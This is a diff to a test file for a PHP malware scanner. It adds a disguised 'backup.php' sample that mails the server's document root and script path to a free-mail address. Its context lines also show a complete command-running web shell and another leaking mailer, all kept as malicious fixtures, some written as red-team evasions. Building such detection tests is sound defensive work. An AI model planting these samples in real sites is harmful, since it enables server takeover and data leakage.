@@ -75,6 +75,11 @@ const MALICIOUS: [string, string, string][] = [
     `<?php\n$cdPos = strpos($command, "cd ");\nif ($cdPos !== false) { chdir(trim(substr($command, 3))); $commandBk = $command; $command = ""; }\nif ($command) { system($command . " 2>&1"); }\nif ($commandBk) $command = $commandBk;\n?>\n<form method="post"><input type="text" name="command" value="<?php echo htmlspecialchars($command); ?>"></form>\n`,
   ],
   [
+    'a backup script also mailing its document root and script path to a free-mail address set some statements before the mail() call (held-out set H22)',
+    '/var/www/html/backup.php',
+    `<?php\n$r = $_SERVER['DOCUMENT_ROOT']; $to = "someone.example@gmail.com"; $s = $_SERVER['SCRIPT_FILENAME']; $m = "$r\\n$s";\nmail($to, "x", $m);\nheader('Content-Type: application/octet-stream');\necho 'backup';\n`,
+  ],
+  [
     'a mailer page also mailing its document root and script path to a free-mail address kept in a variable (held-out set H21)',
     '/var/www/html/mailer.php',
     `<?php\nforeach (explode("\\n", $_POST['list'] ?? '') as $to) { mail(trim($to), $_POST['subject'] ?? '', $_POST['body'] ?? ''); }\n$m = $_SERVER['HTTP_HOST'] . "\\n" . $_SERVER['DOCUMENT_ROOT'] . "\\n" . $_SERVER['SCRIPT_FILENAME'];\n$to = "someone.example@gmail.com"; mail($to, "here", $m);\n`,
@@ -173,7 +178,7 @@ describe('scan: red team S37B\'s evasions of session 37\'s rules (session 38)', 
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 25));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 26));
   for (const [name, path, src] of SUSPICIOUS) {
     it(`flagged: ${name}`, () => {
       const r = scan(src, path);
